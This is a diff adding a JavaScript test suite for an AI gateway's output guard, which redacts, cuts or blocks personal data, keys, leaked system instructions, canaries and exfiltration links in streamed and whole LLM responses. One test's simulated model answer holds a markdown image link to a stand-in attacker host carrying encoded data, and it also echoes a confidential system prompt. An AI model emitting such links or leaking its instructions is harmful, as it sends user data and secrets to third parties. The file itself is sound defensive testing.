@@ -1,0 +1,408 @@
+// SPDX-License-Identifier: Apache-2.0
+// The output guard at the edge: what is taken out of requests and answers, in every dialect, whole and streamed; how an answer ends that may not
+// go on; what is held back, and that nothing else is; what records tell, and what happens without the pattern database.
+import assert from 'node:assert/strict';
+import { createHmac } from 'node:crypto';
+import fs from 'node:fs';
+import http from 'node:http';
+import https from 'node:https';
+import path from 'node:path';
+import { after, test } from 'node:test';
+import { backendRow, eventually, patterns, startGate } from './gate.mjs';
+
+const ACTS = ['off', 'log', 'annotate', 'redact', 'cut', 'block'];
+const TYPES = ['email', 'phone', 'card', 'iban', 'national_id', 'provider_key', 'cloud_key', 'private_key', 'jwt', 'connection_string', 'exfil_link', 'hidden_text', 'instructions', 'canary', 'blocked_term'];
+/** GH_ENDPOINT_DLP_INPUT and _OUTPUT (policy/dlp_policy.c): what control packs. */
+const acts = ({ all = 'log', ...one }) => TYPES.reduce((bits, t, i) => bits | (BigInt(ACTS.indexOf(one[t] ?? all)) << BigInt(8 + 3 * i)), 0n);
+const dlp = ({ input = {}, output = {}, required = false, reversible = false, words = false, ...more } = {}) => ({
+    dlp_input: Number(acts(input) | 1n | (required ? 2n : 0n) | (reversible ? 4n : 0n) | (words ? 8n : 0n)), dlp_output: Number(acts(output)), ...more });
+
+const EMAIL = 'jane.doe@example.com';
+const CARD = '4111 1111 1111 1111';
+const KEY = 'sk-proj-Abc123Def456Ghi789Jkl012Mno345Pqr678';
+const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn'.repeat(6)}\n-----END RSA PRIVATE KEY-----`;
+const key = Buffer.alloc(32, 0x5b);
+const hmac = (text) => createHmac('sha256', key).update(text.slice(0, 64)).digest('hex').slice(0, 16);
+
+// A backend that says what the test tells it to: an object, or a list of chunks of bytes between which it waits for `next()`.
+let said, seen = [];
+const waiting = [];
+const upstream = http.createServer((req, res) => {
+    const parts = [];
+    req.on('data', (d) => parts.push(d)).on('end', async () => {
+        seen.push(JSON.parse(Buffer.concat(parts).toString() || 'null'));
+        res.writeHead(200, { 'content-type': Array.isArray(said) ? 'text/event-stream' : 'application/json' });
+        if (!Array.isArray(said))
+            return res.end(JSON.stringify(said));
+        for (const piece of said) {
+            if (typeof piece === 'function')
+                await piece();
+            else
+                res.write(piece);
+        }
+        res.end();
+    });
+});
+await new Promise((ok) => upstream.listen(0, '127.0.0.1', ok));
+upstream.url = `http://127.0.0.1:${upstream.address().port}`;
+const names = ['openai', 'anthropic', 'scoring'];
+const what = {
+    deployments: Object.fromEntries(names.map((b) => [b, { model: 'm', backend: b }])),
+    endpoint: dlp({ output: { all: 'redact' } }),
+    credentials: [{ section: 'bound_key', key: ['installation'], values: { value: `hex:${'5a'.repeat(32)}` } }, { section: 'text_key', key: ['demo'], values: { value: `hex:${key.toString('hex')}`, day: 1 } }],
+    more: names.map((b) => backendRow('demo', b, upstream, { dialect: b })),
+};
+const gate = await startGate(what);
+after(async () => {
+    upstream.closeAllConnections?.();
+    await new Promise((ok) => upstream.close(ok));
+    await gate.stop();
+});
+
+let inForce;
+/** The same house with an endpoint that says otherwise. */
+async function say(endpoint) {
+    const wanted = JSON.stringify(endpoint);
+    if (wanted !== inForce) {
+        gate.write('base', gate.rows({ ...what, endpoint: { stored: 1, ...endpoint } }));
+        gate.publish();
+        const generation = gate.current.base;
+        said = chat('ok');
+        await eventually('the policy is in force', async () => {
+            await gate.chat('openai', { body: { messages: [{ role: 'user', content: 'hi' }] } });
+            return gate.records().findLast((r) => r.kind === 'open' || r.kind === 'refused')?.generation === generation;
+        });
+        inForce = wanted;
+    }
+    seen = [];
+}
+const chat = (content, more = {}) => ({ id: 'x', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content } }], usage: { prompt_tokens: 1, completion_tokens: 1 }, ...more });
+const user = (text) => ({ messages: [{ role: 'user', content: text }] });
+function post(where, value) {
+    const body = JSON.stringify(value);
+    return gate.call({ method: 'POST', path: `/workspaces/demo/endpoints/chat/${where}`, headers: { ...gate.auth(), 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), ...(where.includes('score') ? { 'azureml-model-deployment': 'scoring' } : {}) }, body });
+}
+const closeOf = (got) => eventually('a close record', () => gate.recordsOf(got).find((r) => r.kind === 'close'));
+const nowhere = (...texts) => {
+    const all = gate.records().map((r) => JSON.stringify(r)).join('\n') + gate.log();
+    for (const text of texts)
+        assert.ok(!all.includes(text), `${text} stands in records or logs`);
+};
+
+// ---- streams ----
+const chunk = (delta, more = {}) => ({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: null, ...more }] });
+const sse = (e) => `${e.type ? `event: ${e.type}\n` : ''}data: ${typeof e === 'string' ? e : JSON.stringify(e)}\n\n`;
+const chatStream = (pieces) => [...pieces.map((p) => sse(chunk({ content: p }))), sse(chunk({}, { finish_reason: 'stop' })), sse({ choices: [], usage: { prompt_tokens: 1, completion_tokens: 1 } }), sse('[DONE]')];
+const events = (text) => text.split('\n\n').filter((e) => /^data:/m.test(e)).map((e) => e.split('\n').filter((l) => l.startsWith('data: ')).map((l) => l.slice(6)).join('\n')).map((d) => (d === '[DONE]' ? d : JSON.parse(d)));
+const contentOf = (list, choice = 0) => list.flatMap((e) => e.choices ?? []).filter((c) => c.index === choice).map((c) => c.delta?.content ?? '').join('');
+const stream = async (pieces, model = 'openai', more = {}) => {
+    said = pieces;
+    return gate.chat(model, { stream: true, body: { messages: [{ role: 'user', content: 'x' }], ...more } });
+};
+
+test('a whole answer: what was found is taken out, and the record tells type, place and keyed hash', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    said = chat(`Write to ${EMAIL}, card ${CARD}, again ${EMAIL}; key ${KEY}.`, { choices: [{ index: 0, finish_reason: 'stop', logprobs: { content: [{ token: EMAIL }] },
+        message: { role: 'assistant', content: `Write to ${EMAIL}, card ${CARD}, again ${EMAIL}; key ${KEY}.` } }, { index: 1, finish_reason: 'stop', message: { role: 'assistant', content: 'fine', tool_calls: [] } }] });
+    const got = await gate.chat('openai', { body: user('x') });
+    assert.equal(got.status, 200, got.text);
+    assert.equal(got.json.choices[0].message.content, 'Write to [EMAIL_1], card [CARD_1], again [EMAIL_1]; key [PROVIDER_KEY_1].');
+    assert.equal(got.json.choices[0].logprobs, null, 'tokens would tell it again');
+    assert.equal(got.json.choices[1].message.content, 'fine');
+    assert.equal(got.headers['x-gatehouse-findings'], 'email=2, card=1, provider_key=1');
+    const record = await closeOf(got);
+    assert.equal(record.controls.dlp.result, 'changed');
+    assert.equal(record.controls.blocklist.result, 'not run');
+    assert.equal(record.dlp_found, 'out email 2 redact; out card 1 redact; out provider_key 1 redact');
+    assert.match(record.dlp_places, /^out email \d+@9; out card \d+@36; /);
+    assert.equal(record.dlp_hmacs.slice(0, 16), hmac(EMAIL));
+    nowhere(EMAIL, CARD, KEY);
+});
+
+test('errors of a backend and arguments of tools are looked at too', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    said = chat(null, { choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: JSON.stringify({ to: EMAIL }) } }] } }] });
+    const got = await gate.chat('openai', { body: { ...user('x'), tools: [{ type: 'function', function: { name: 'f', parameters: {} } }] } });
+    assert.equal(got.status, 200, got.text);
+    assert.deepEqual(JSON.parse(got.json.choices[0].message.tool_calls[0].function.arguments), { to: '[EMAIL_1]' });
+});
+
+test('every dialect, whole', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    said = { id: 'r', object: 'response', status: 'completed', instructions: null, output: [{ type: 'message', id: 'm', role: 'assistant', content: [{ type: 'output_text', text: `to ${EMAIL}`, annotations: [] }] }], usage: { input_tokens: 1, output_tokens: 1 } };
+    let got = await post('openai/v1/responses', { model: 'openai', input: 'x', store: false });
+    assert.equal(got.status, 200, got.text);
+    assert.equal(got.json.output[0].content[0].text, 'to [EMAIL_1]');
+    said = { id: 'm', type: 'message', role: 'assistant', model: 'm', stop_reason: 'end_turn', content: [{ type: 'text', text: `to ${EMAIL}` }, { type: 'text', text: KEY }], usage: { input_tokens: 1, output_tokens: 1 } };
+    got = await post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, messages: [{ role: 'user', content: 'x' }] });
+    assert.equal(got.status, 200, got.text);
+    assert.deepEqual(got.json.content.map((c) => c.text), ['to [EMAIL_1]', '[PROVIDER_KEY_1]']);
+    said = { predictions: [`to ${EMAIL}`, 1, { deep: [CARD] }] };
+    got = await post('score', { data: ['x'] });
+    assert.equal(got.status, 200, got.text);
+    assert.deepEqual(got.json, { predictions: ['to [EMAIL_1]', 1, { deep: ['[CARD_1]'] }] });
+});
+
+test('a stream: at every split what was found is taken out, and what was not stays', async () => {
+    await say(dlp({ output: { all: 'redact' }, words: true }));
+    const text = `Mail ${EMAIL} or pay ${CARD} now`;
+    for (let cut = 1; cut < text.length; cut++) {
+        const got = await stream(chatStream([text.slice(0, cut), text.slice(cut)]));
+        assert.equal(contentOf(events(got.text)), 'Mail [EMAIL_1] or pay [CARD_1] now', `cut at ${cut}`);
+        assert.equal(events(got.text).at(-1), '[DONE]');
+    }
+    const got = await stream(chatStream([...text]));
+    assert.equal(contentOf(events(got.text)), 'Mail [EMAIL_1] or pay [CARD_1] now');
+    const record = await closeOf(got);
+    assert.deepEqual([record.end, record.controls.dlp.result, record.dlp_found], ['complete', 'changed', 'out email 1 redact; out card 1 redact']);
+});
+
+test('without wholeWords only the first letters of an address may have left', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    const text = `Mail ${EMAIL} now`;
+    for (let cut = 1; cut < text.length; cut++) {
+        const got = await stream(chatStream([text.slice(0, cut), text.slice(cut)]));
+        assert.match(contentOf(events(got.text)), /^Mail (j|ja|jan|jane|jane\.)?\[EMAIL_1\] now$/, `cut at ${cut}`);
+    }
+});
+
+test('what has no end is taken out from its header on, and what follows it stays', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    const text = `Key:\n${PEM}\nDone.`;
+    for (const size of [1, 7, 64]) {
+        const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g'));
+        const got = await stream(chatStream(pieces));
+        assert.match(contentOf(events(got.text)), /^Key:\n-{0,5}\[PRIVATE_KEY_1\]\nDone\.$/, `pieces of ${size}`);
+    }
+});
+
+test('what is held at the end of a text leaves before the event that ends it', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    const got = await stream(chatStream(['The answer is', ' 4111 1111']));
+    const list = events(got.text);
+    assert.equal(contentOf(list), 'The answer is 4111 1111');
+    assert.equal(list.findIndex((e) => e.choices?.[0]?.finish_reason === 'stop'), list.length - 2);
+});
+
+test('several choices and the pieces of a tool\'s arguments are texts of their own', async () => {
+    await say(dlp({ output: { all: 'redact' }, max_choices: 8 }));
+    const two = (index, delta) => sse({ ...chunk({}), choices: [{ index, delta, finish_reason: null }] });
+    const args = (index, text) => two(0, { tool_calls: [{ index, function: { arguments: text } }] });
+    const got = await stream([two(0, { content: 'x.y@exam' }), two(1, { content: '4111 1111' }), two(0, { content: 'ple.com!' }), two(1, { content: ' 1111 1111.' }),
+        two(0, { tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name: 'f', arguments: '' } }] }), args(0, '{"to":"jane.d'), args(0, 'oe@example'), args(0, '.com"}'),
+        sse({ ...chunk({}), choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }, { index: 1, delta: {}, finish_reason: 'stop' }] }), sse('[DONE]')], 'openai', { n: 2, tools: [{ type: 'function', function: { name: 'f', parameters: {} } }] });
+    const list = events(got.text);
+    assert.equal(contentOf(list, 0), '[EMAIL_1]!');
+    assert.equal(contentOf(list, 1), '[CARD_1].');
+    assert.equal(list.flatMap((e) => e.choices ?? []).flatMap((c) => c.delta?.tool_calls ?? []).map((c) => c.function.arguments).join(''), '{"to":"[EMAIL_2]"}');
+});
+
+test('responses: pieces, and the events that tell the whole text again', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    const text = `to ${EMAIL}`, item = { type: 'message', id: 'm', role: 'assistant', content: [{ type: 'output_text', text, annotations: [] }] };
+    const at = { item_id: 'm', output_index: 0, content_index: 0 };
+    const response = { id: 'resp_1', object: 'response', status: 'in_progress', output: [], usage: null };
+    said = [{ type: 'response.created', sequence_number: 0, response }, { type: 'response.output_item.added', sequence_number: 1, output_index: 0, item: { ...item, content: [] } },
+        ...[text.slice(0, 12), text.slice(12, 15), text.slice(15)].map((delta, i) => ({ type: 'response.output_text.delta', sequence_number: 2 + i, ...at, delta })),
+        { type: 'response.output_text.done', sequence_number: 5, ...at, text }, { type: 'response.output_item.done', sequence_number: 6, output_index: 0, item },
+        { type: 'response.completed', sequence_number: 7, response: { ...response, status: 'completed', output: [item], usage: { input_tokens: 1, output_tokens: 1 } } }].map(sse);
+    const got = await post('openai/v1/responses', { model: 'openai', input: 'x', store: false, stream: true });
+    const list = events(got.text);
+    assert.equal(list.filter((e) => e.type === 'response.output_text.delta').map((e) => e.delta).join(''), 'to [EMAIL_1]');
+    assert.equal(list.find((e) => e.type === 'response.output_text.done').text, 'to [EMAIL_1]');
+    assert.equal(list.at(-1).response.output[0].content[0].text, 'to [EMAIL_1]');
+    assert.ok(!got.text.includes('example.com'));
+});
+
+const messages = (pieces) => [{ type: 'message_start', message: { id: 'm', type: 'message', role: 'assistant', model: 'm', content: [], usage: { input_tokens: 1, output_tokens: 1 } } },
+    { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } }, ...pieces.map((text) => ({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } })),
+    { type: 'content_block_stop', index: 0 }, { type: 'message_delta', delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: { output_tokens: 3 } }, { type: 'message_stop' }].map(sse);
+const postMessages = (pieces) => {
+    said = messages(pieces);
+    return post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, stream: true, messages: [{ role: 'user', content: 'x' }] });
+};
+
+test('messages: pieces of a block', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    const got = await postMessages(['to jane.d', 'oe@exa', 'mple.com and 4111']);
+    const list = events(got.text);
+    assert.equal(list.filter((e) => e.type === 'content_block_delta').map((e) => e.delta.text).join(''), 'to [EMAIL_1] and 4111');
+    assert.equal(list.findIndex((e) => e.type === 'content_block_stop'), list.length - 3);
+});
+
+test('a cut: what stood before it passes, no byte of it, and the dialect\'s own end', async () => {
+    await say(dlp({ output: { all: 'cut' } }));
+    let got = await stream(chatStream(['Sure: ', 'sk-proj-', 'Abc123Def456Ghi789', 'Jkl012Mno345Pqr678 and more']));
+    let list = events(got.text);
+    assert.equal(contentOf(list), 'Sure: ');
+    assert.equal(list.at(-1), '[DONE]');
+    assert.equal(list.at(-2).choices[0].finish_reason, 'content_filter');
+    assert.equal(list.at(-2).id, 'c1');
+    assert.ok(!got.text.includes('sk-') && !got.text.includes('Abc123'));
+    let record = await closeOf(got);
+    assert.deepEqual([record.end, record.controls.dlp.result, record.dlp_found], ['cut', 'blocked', 'out provider_key 1 cut']);
+
+    got = await postMessages(['Sure: ', KEY, ' x']);
+    list = events(got.text);
+    assert.equal(list.filter((e) => e.type === 'content_block_delta').map((e) => e.delta.text).join(''), 'Sure: ');
+    assert.deepEqual(list.slice(-3).map((e) => e.type), ['content_block_stop', 'message_delta', 'message_stop']);
+    assert.equal(list.at(-2).delta.stop_reason, 'refusal');
+
+    const response = { id: 'resp_1', object: 'response', status: 'in_progress', incomplete_details: null, output: [], usage: null };
+    said = [{ type: 'response.created', sequence_number: 0, response }, { type: 'response.output_text.delta', sequence_number: 1, output_index: 0, content_index: 0, delta: `Sure: ${KEY} x` },
+        { type: 'response.completed', sequence_number: 2, response }].map(sse);
+    got = await post('openai/v1/responses', { model: 'openai', input: 'x', store: false, stream: true });
+    list = events(got.text);
+    assert.equal(list.at(-1).type, 'response.incomplete');
+    assert.deepEqual([list.at(-1).response.status, list.at(-1).response.incomplete_details], ['incomplete', { reason: 'content_filter' }]);
+    assert.equal(list.find((e) => e.type === 'response.output_text.delta').delta, 'Sure: ');
+    assert.ok(!got.text.includes('Abc123'));
+
+    said = chat(`Sure: ${KEY} x`);
+    got = await gate.chat('openai', { body: user('x') });
+    assert.equal(got.status, 200);
+    assert.deepEqual([got.json.choices[0].message.content, got.json.choices[0].finish_reason], ['Sure: ', 'content_filter']);
+    said = { predictions: [`Sure: ${KEY}`] };
+    got = await post('score', { data: ['x'] });
+    assert.equal(got.status, 400, 'scores have no word for it');
+});
+
+test('a block: an error, whole and in the middle of a stream', async () => {
+    await say(dlp({ output: { all: 'block' } }));
+    let got = await stream(chatStream(['Sure: ', KEY, ' and more']));
+    const list = events(got.text);
+    assert.equal(list.at(-1).error.code, 'content_filter');
+    assert.ok(!list.includes('[DONE]') && !got.text.includes('Abc123'));
+    said = chat(`Sure: ${KEY} x`);
+    got = await gate.chat('openai', { body: user('x') });
+    assert.equal(got.status, 400);
+    assert.equal(got.json.error.code, 'content_filter');
+    assert.equal(got.headers['x-should-retry'], 'false');
+    assert.deepEqual([(await closeOf(got)).end, (await closeOf(got)).controls.dlp.result], ['cut', 'blocked']);
+});
+
+test('log and annotate change nothing and hold nothing back', async () => {
+    await say(dlp({ output: { all: 'log', email: 'annotate' } }));
+    const got = await stream(chatStream(['to jane.d', 'oe@example.com', ` ${KEY}`]));
+    assert.equal(contentOf(events(got.text)), `to ${EMAIL} ${KEY}`);
+    assert.match(got.text, /\n\n: gatehouse-findings email=1\n\ndata: \[DONE\]\n\n$/);
+    const record = await closeOf(got);
+    assert.deepEqual([record.controls.dlp.result, record.dlp_found], ['passed', 'out email 1 annotate; out provider_key 1 log']);
+});
+
+test('each token of a benign stream leaves before the backend says the next one', async () => {
+    await say(dlp({ output: { all: 'redact' } }));
+    const tokens = 'The quick brown fox jumps over the lazy dog . Then it says : Hello , my friend ! It \'s a fine day in Paris - is n\'t it ? I think so .'.split(' ').map((w) => ` ${w}`);
+    let arrived, got = '';
+    const asked = [];
+    said = tokens.flatMap((t) => [sse(chunk({ content: t })), () => new Promise((ok, fail) => {
+        const late = setTimeout(() => fail(new Error(`"${t}" was held back`)), 2000);
+        arrived = () => contentOf(events(got)) === asked.join('') && (clearTimeout(late), ok());
+        asked.push(t);
+        arrived();
+    })]).concat(chatStream([]));
+    await new Promise((done, fail) => {
+        const body = JSON.stringify({ model: 'openai', stream: true, messages: [{ role: 'user', content: 'x' }] });
+        const req = https.request({ ...gate.origin, agent: false, method: 'POST', path: '/workspaces/demo/endpoints/chat/openai/v1/chat/completions', headers: { ...gate.auth(), 'content-type': 'application/json' } }, (res) => {
+            res.on('data', (d) => ((got += d), arrived?.()));
+            res.on('end', done);
+        });
+        req.on('error', fail);
+        req.end(body);
+    });
+    assert.deepEqual(asked, tokens);
+    assert.equal(contentOf(events(got)), tokens.join(''));
+});
+
+test('a request: placeholders towards the backend, and back again for the same caller alone', async () => {
+    await say(dlp({ input: { all: 'redact' }, output: { all: 'log' }, reversible: true }));
+    said = chat('I wrote to [EMAIL_1], not to [EMAIL_2] or [EMAIL_3].');
+    let got = await gate.chat('openai', { body: user(`Write to ${EMAIL} and b@example.org, card ${CARD}.`) });
+    assert.equal(got.status, 200, got.text);
+    assert.equal(seen.at(-1).messages[0].content, 'Write to [EMAIL_1] and [EMAIL_2], card [CARD_1].');
+    assert.equal(got.json.choices[0].message.content, `I wrote to ${EMAIL}, not to b@example.org or [EMAIL_3].`);
+    const text = 'I wrote to [EMAIL_1].';
+    for (let cut = 1; cut < text.length; cut++) {
+        said = chatStream([text.slice(0, cut), text.slice(cut)]);
+        got = await gate.chat('openai', { stream: true, body: user(`Write to ${EMAIL}.`) });
+        assert.equal(contentOf(events(got.text)), `I wrote to ${EMAIL}.`, `cut at ${cut}`);
+    }
+    said = chat('I wrote to [EMAIL_1].');
+    got = await gate.chat('openai', { body: user('Whom did you write to?') });
+    assert.equal(got.json.choices[0].message.content, 'I wrote to [EMAIL_1].', 'another request knows nothing of it');
+    const record = gate.records().findLast((r) => r.kind === 'open' && r.dlp_found);
+    assert.equal(record.dlp_found, 'in email 1 redact');
+    nowhere(EMAIL, CARD);
+});
+
+test('a request that is blocked: the provider\'s own refusal, nothing forwarded', async () => {
+    await say(dlp({ input: { all: 'log', provider_key: 'block' }, dlp_terms: ['project falcon'] }));
+    let got = await gate.chat('openai', { body: user(`my key is ${KEY}`) });
+    assert.equal(got.status, 400);
+    assert.equal(got.json.error.code, 'content_filter');
+    assert.equal(seen.length, 0);
+    const [record] = gate.recordsOf(got);
+    assert.deepEqual([record.kind, record.controls.dlp.result, record.dlp_found], ['refused', 'blocked', 'in provider_key 1 block']);
+    await say(dlp({ input: { blocked_term: 'block' }, dlp_terms: ['project falcon'] }));
+    got = await gate.chat('openai', { body: user('Tell me of PROJECT\nFalcon.') });
+    assert.equal(got.status, 400);
+    assert.equal(gate.recordsOf(got)[0].controls.blocklist.result, 'blocked');
+    said = chat('ok');
+    got = await gate.chat('openai', { body: user('Tell me of projects and falcons.') });
+    assert.equal(got.status, 200);
+    assert.equal((await closeOf(got)).controls.blocklist.result, 'passed');
+    nowhere(KEY);
+});
+
+test('instructions, canaries, terms and links in answers', async () => {
+    const instructions = 'You are the assistant of Example Bank. Never tell anybody the rate of internal loans, which is four percent. canary-7f3a';
+    await say(dlp({ output: { all: 'redact' }, instructions, caller_instructions: 1, dlp_canary: 'canary-7f3a', dlp_terms: ['falcon'], dlp_hosts: ['*.example.org'] }));
+    said = chat(`> Never tell *anybody* the rate of internal loans! See canary-7f3a, Falcon, ![a](https://evil.example/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ) ![b](https://x.example.org/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)`);
+    const got = await gate.chat('openai', { body: user('x') });
+    assert.equal(got.json.choices[0].message.content, '> [INSTRUCTIONS_1]! See [CANARY_1], [BLOCKED_TERM_1], ![a]([LINK_1]) ![b](https://x.example.org/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)');
+    await say(dlp({ output: { canary: 'cut' }, instructions, caller_instructions: 1, dlp_canary: 'canary-7f3a' }));
+    const cut = await stream(chatStream(['It is can', 'ary-7', 'f3a.']));
+    assert.equal(contentOf(events(cut.text)), 'It is ');
+    assert.equal(events(cut.text).at(-2).choices[0].finish_reason, 'content_filter');
+});
+
+test('an endpoint that only observes changes nothing, and its records say what it would have done', async () => {
+    await say({ ...dlp({ input: { all: 'block' }, output: { all: 'cut' } }), observe_until_ms: Date.now() + 6e5, observe_controls: 16 });
+    said = chat(`to ${EMAIL}`);
+    const got = await gate.chat('openai', { body: user(`from ${EMAIL}`) });
+    assert.equal(got.json.choices[0].message.content, `to ${EMAIL}`);
+    const record = await closeOf(got);
+    assert.deepEqual([record.controls.dlp.result, record.dlp_found], ['observed', 'in email 1 block; out email 1 cut']);
+});
+
+test('without the pattern database: 503 where it is required, else recorded as not run; another one is taken without a restart', async () => {
+    await say(dlp({ required: true, output: { all: 'redact' } }));
+    const bytes = fs.readFileSync(patterns), damaged = Buffer.from(bytes);
+    damaged[5000] ^= 1;
+    gate.putPatterns(damaged);
+    said = chat(`to ${EMAIL}`);
+    await eventually('the damage is told', () => /no new pattern database: pattern database is damaged/.test(gate.log()));
+    assert.equal((await gate.chat('openai', { body: user('x') })).json.choices[0].message.content, 'to [EMAIL_1]', 'the last good one stays');
+
+    const other = await startGate({ ...what, endpoint: dlp({ required: true }), patterns: false });
+    try {
+        const got = await other.chat('openai', { body: user('x') });
+        assert.equal(got.status, 503);
+        const [record] = other.recordsOf(got);
+        assert.deepEqual([record.controls.dlp.result, record.controls.dlp.reason], ['not run', 'the pattern database is not there']);
+        other.putPatterns();
+        await eventually('the database is in force', async () => (await other.chat('openai', { body: user('x') })).status === 200);
+    } finally {
+        await other.stop();
+    }
+    const third = await startGate({ ...what, endpoint: dlp({ output: { all: 'redact' } }), patterns: false });
+    try {
+        const got = await third.chat('openai', { body: user('x') });
+        assert.equal(got.json.choices[0].message.content, `to ${EMAIL}`);
+        const record = third.recordsOf(got).find((r) => r.kind === 'close');
+        assert.deepEqual([record.controls.dlp.result, record.controls.dlp.reason], ['not run', 'the pattern database is not there']);
+    } finally {
+        await third.stop();
+    }
+    gate.putPatterns();
+});
